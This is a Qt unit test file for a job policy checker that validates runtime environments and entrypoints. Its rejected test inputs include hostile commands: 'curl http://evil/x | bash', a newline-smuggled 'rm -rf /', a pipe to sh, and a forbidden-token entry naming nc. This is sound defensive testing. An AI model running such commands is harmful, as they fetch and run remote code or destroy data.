#include "JobSamples.h"
#include "core/validation/JobPolicyChecker.h"
#include "support/TestMain.h"

#include <QTest>

using namespace raysec;

namespace {

QStringList rules(const QList<PolicyViolation>& violations)
{
    QStringList out;
    for (const PolicyViolation& v : violations) {
        out.append(v.field + QLatin1Char(':') + v.rule);
    }
    return out;
}

} // namespace

class TstJobPolicyChecker : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init() { test::failOnWarnings(); }

    void runtimeEnv_data()
    {
        QTest::addColumn<QByteArray>("env");
        QTest::addColumn<QStringList>("expected");
        QTest::newRow("plain packages")
            << QByteArray(R"({"pip":["numpy==1.26","pandas"]})") << QStringList{};
        QTest::newRow("uploaded working dir") << (sample(0)) << QStringList{};
        QTest::newRow("pypi url") << (sample(1)) << QStringList{};
        QTest::newRow("arbitrary wheel")
            << (sample(2)) << QStringList{QStringLiteral("runtime_env.pip[0]:runtime-env-url")};
        QTest::newRow("git package")
            << (sample(3)) << QStringList{QStringLiteral("runtime_env.pip[1]:runtime-env-url")};
        QTest::newRow("index option inline")
            << (sample(4)) << QStringList{QStringLiteral("runtime_env.uv[0]:runtime-env-url")};
        QTest::newRow("index option alone")
            << QByteArray(R"({"pip":["--extra-index-url"]})")
            << QStringList{QStringLiteral("runtime_env.pip[0]:runtime-env-pip-option")};
        QTest::newRow("s3 working dir")
            << (sample(5))
            << QStringList{QStringLiteral("runtime_env.working_dir:runtime-env-url")};
        QTest::newRow("conda channel and pip")
            << (sample(6))
            << QStringList{QStringLiteral("runtime_env.conda.channels:runtime-env-url"),
                           QStringLiteral("runtime_env.conda.pip[0]:runtime-env-url")};
        QTest::newRow("py_modules")
            << (sample(7)) << QStringList{QStringLiteral("runtime_env.py_modules:runtime-env-url")};
        QTest::newRow("wrong types ignored")
            << QByteArray(R"({"pip":42,"conda":"env.yml","py_modules":[7]})") << QStringList{};
    }

    void runtimeEnv()
    {
        QFETCH(QByteArray, env);
        QFETCH(QStringList, expected);
        const JobPolicyChecker checker(JobPolicy::defaults());
        QCOMPARE(rules(checker.checkRuntimeEnv(nlohmann::json::parse(env.toStdString()))),
                 expected);
    }

    void entrypoint_data()
    {
        QTest::addColumn<QString>("entrypoint");
        QTest::addColumn<QStringList>("expected");
        QTest::newRow("python script")
            << QStringLiteral("python train.py --epochs 3") << QStringList{};
        QTest::newRow("empty") << QStringLiteral("  ")
                               << QStringList{QStringLiteral("entrypoint:entrypoint-empty")};
        QTest::newRow("bash") << QStringLiteral("bash run.sh")
                              << QStringList{QStringLiteral("entrypoint:entrypoint-program")};
        QTest::newRow("pipe to shell")
            << QStringLiteral("python x.py | sh")
            << QStringList{QStringLiteral("entrypoint:entrypoint-token")};
        QTest::newRow("download") << QStringLiteral("curl http://evil/x | bash")
                                  << QStringList{QStringLiteral("entrypoint:entrypoint-program"),
                                                 QStringLiteral("entrypoint:entrypoint-token"),
                                                 QStringLiteral("entrypoint:entrypoint-token")};
        QTest::newRow("inline code") << QStringLiteral("python -c \"import os\"")
                                     << QStringList{QStringLiteral("entrypoint:entrypoint-token")};
        QTest::newRow("newline") << QStringLiteral("python a.py\nrm -rf /")
                                 << QStringList{QStringLiteral("entrypoint:entrypoint-control")};
    }

    void entrypoint()
    {
        QFETCH(QString, entrypoint);
        QFETCH(QStringList, expected);
        const JobPolicyChecker checker(JobPolicy::defaults());
        QCOMPARE(rules(checker.checkEntrypoint(entrypoint)), expected);
    }

    void policyFileIsValidated()
    {
        auto bad = JobPolicy::parse(R"({"format":"raysec-job-policy","formatVersion":1,)"
                                    R"("allowedHosts":"pypi.org"})",
                                    QStringLiteral("policy.json"));
        QVERIFY(!bad);
        QVERIFY(bad.error().message.contains(QStringLiteral("allowedHosts")));
        auto good = JobPolicy::parse(R"({"format":"raysec-job-policy","formatVersion":1,)"
                                     R"("allowedHosts":["*.corp.example"],"allowedSchemes":[],)"
                                     R"("allowedPrograms":["python"],"forbiddenTokens":["|"],)"
                                     R"("maxEntrypointLength":100})",
                                     QStringLiteral("policy.json"));
        QVERIFY(good);
        QVERIFY(good->hostAllowed(QStringLiteral("pypi.corp.example")));
        QVERIFY(!good->hostAllowed(QStringLiteral("corp.example.evil")));
    }

    // Entries that could never match what they are meant to are refused with their text.
    void entriesThatCannotMatchAreRefused_data()
    {
        QTest::addColumn<QString>("list");
        QTest::addColumn<QString>("entry");
        QTest::newRow("host with scheme") << "allowedHosts"
                                          << "https://pypi.org";
        QTest::newRow("host with port") << "allowedHosts"
                                        << "pypi.internal:8443";
        QTest::newRow("host with path") << "allowedHosts"
                                        << "pypi.org/simple";
        QTest::newRow("wildcard inside") << "allowedHosts"
                                         << "pypi.*.org";
        QTest::newRow("scheme with separator") << "allowedSchemes"
                                               << "gcs://";
        QTest::newRow("scheme starting with a digit") << "allowedSchemes"
                                                      << "3s";
        QTest::newRow("program with arguments") << "allowedPrograms"
                                                << "python -m";
    }

    void entriesThatCannotMatchAreRefused()
    {
        QFETCH(QString, list);
        QFETCH(QString, entry);
        JobPolicy policy = JobPolicy::defaults();
        QVERIFY(policy.check());
        QStringList* target = list == QLatin1String("allowedHosts")     ? &policy.allowedHosts
                              : list == QLatin1String("allowedSchemes") ? &policy.allowedSchemes
                                                                        : &policy.allowedPrograms;
        target->append(entry);
        const auto checked = policy.check();
        QVERIFY(!checked);
        QVERIFY2(checked.error().message.contains(entry), qPrintable(checked.error().message));
        // A file with the same entry is refused as well, naming the file.
        const auto parsed = JobPolicy::parse(QByteArray::fromStdString(policy.toJson().dump()),
                                             QStringLiteral("policy.json"));
        QVERIFY(!parsed);
        QVERIFY(parsed.error().message.startsWith(QStringLiteral("policy.json: ")));
    }

    void acceptedEntries()
    {
        JobPolicy policy = JobPolicy::defaults();
        policy.allowedHosts = {QStringLiteral("10.0.0.7"), QStringLiteral("*.corp.example"),
                               QStringLiteral("my-index.example")};
        policy.allowedSchemes = {QStringLiteral("s3"), QStringLiteral("git+https")};
        policy.forbiddenTokens = {QStringLiteral("nc "), QStringLiteral(" -c ")};
        QVERIFY(policy.check());
        policy.forbiddenTokens.append(QString());
        QVERIFY(!policy.check());
    }
};

QTEST_GUILESS_MAIN(TstJobPolicyChecker)
#include "tst_jobpolicychecker.moc"
